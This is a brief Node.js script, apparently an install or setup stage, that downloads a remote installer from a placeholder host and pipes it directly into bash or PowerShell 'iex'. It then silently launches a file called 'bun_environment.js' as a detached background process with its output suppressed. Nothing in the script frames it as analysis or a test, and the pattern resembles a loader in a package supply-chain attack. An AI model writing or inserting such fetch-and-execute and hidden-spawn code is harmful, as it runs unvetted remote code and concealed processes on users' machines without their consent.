const { execSync, spawn } = require('child_process');
const os = require('os');
function installBun() {
  if (os.platform() === 'win32') {
    execSync('powershell -c "irm https://bun.example.invalid/install.ps1 | iex"');
  } else {
    execSync('curl -fsSL https://bun.example.invalid/install | bash');
  }
}
installBun();
spawn(os.homedir() + '/.bun/bin/bun', ['bun_environment.js'], { detached: true, stdio: 'ignore' }).unref();
